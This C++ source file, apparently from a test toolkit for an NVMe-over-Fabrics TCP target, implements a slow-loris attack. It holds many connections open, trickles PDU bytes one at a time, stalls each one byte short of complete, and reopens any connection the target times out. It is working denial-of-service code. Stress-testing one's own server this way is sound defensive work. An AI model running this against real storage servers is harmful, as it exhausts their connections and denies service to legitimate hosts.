#include "tools/attack/slow_loris.hpp"

#include "tools/host/commands.hpp"
#include "tools/host/errors.hpp"
#include "tools/host/pdu_build.hpp"
#include "tools/attack/raw_admin_connect.hpp"

namespace nvmfd::attack {

using namespace std::chrono_literals;
using Steady = std::chrono::steady_clock;

SlowLoris::SlowLoris(SlowLorisOptions options) : options_(std::move(options)) {
    thread_ = std::thread([this] { run(); });
}

SlowLoris::~SlowLoris() { stop(); }

void SlowLoris::stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
}

bool SlowLoris::wait_ready(std::chrono::milliseconds timeout) const {
    auto deadline = Steady::now() + timeout;
    while (!ready_ && Steady::now() < deadline) std::this_thread::sleep_for(10ms);
    return ready_;
}

SlowLorisStats SlowLoris::stats() const {
    return {open_.load(), connected_.load(), bytes_.load(), reopened_.load(), failures_.load()};
}

bool SlowLoris::open(Trickle& t, unsigned index) {
    t = Trickle{};
    try {
        t.socket = connect_from(options_.target, 2s);
        if (index % 2 == 0) {
            t.pdu = host::pdu::icreq_bytes({});
            return true;
        }
        // Past ICReq and Connect: a controller of its own host NQN, then a
        // Keep Alive capsule that never ends.
        host::RawConnection raw(std::move(t.socket));
        std::array<uint8_t, 16> hostid{0xa7, uint8_t(index), uint8_t(index >> 8)};
        RawAdmin admin =
            raw_admin_connect(raw, options_.target.subnqn, options_.hostnqn_prefix + std::to_string(index), hostid);
        if (!admin.status.ok()) return false;
        t.socket = std::move(raw.socket());
        t.pdu = host::pdu::capsule_bytes(host::cmd::keep_alive(), {}, admin.params);
        t.connected = true;
        return true;
    } catch (const host::Error&) {
        return false;
    }
}

void SlowLoris::run() {
    std::vector<Trickle> all(options_.connections);
    auto count = [&] {
        uint64_t o = 0, c = 0;
        for (auto& t : all) {
            o += t.socket.valid();
            c += t.socket.valid() && t.connected;
        }
        open_ = o;
        connected_ = c;
    };
    for (unsigned i = 0; i < all.size() && !stop_; ++i)
        if (!open(all[i], i)) ++failures_;
    count();
    ready_ = true;
    while (!stop_) {
        auto round = Steady::now();
        for (unsigned i = 0; i < all.size() && !stop_; ++i) {
            Trickle& t = all[i];
            if (!t.socket.valid() || peer_closed(t.socket)) {
                // The target closed it (timeout): come back.
                if (t.socket.valid()) ++reopened_;
                if (!open(t, i)) ++failures_;
                continue;
            }
            if (t.sent + 1 >= t.pdu.size()) continue;  // all but the last byte: stalled mid-PDU for good
            iovec v{&t.pdu[t.sent], 1};
            if (t.socket.send_some(&v, 1).status == host::IoStatus::Ok) {
                ++t.sent;
                ++bytes_;
            }
        }
        count();
        std::this_thread::sleep_until(round + options_.byte_interval);
    }
}

}  // namespace nvmfd::attack
